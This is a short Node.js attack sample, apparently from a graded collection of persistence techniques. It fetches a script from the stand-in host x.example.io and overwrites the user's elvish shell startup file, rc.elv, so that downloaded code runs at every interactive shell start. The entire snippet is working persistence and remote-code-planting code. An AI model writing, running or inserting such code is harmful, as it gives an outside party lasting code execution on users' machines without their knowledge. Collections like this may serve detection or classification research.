// evasion: elvish's rc.elv runs at every interactive start; a downloaded script is made part of it with fs/promises
// grade: medium; does: persist
const fsp = require("fs/promises");
const path = require("path");
const os = require("os");
(async () => {
  const rc = path.resolve(os.homedir(), ".config/elvish", "rc.elv");
  const body = await (await fetch("https://x.example.io/rc.elv")).text();
  await fsp.writeFile(rc, body);
})();
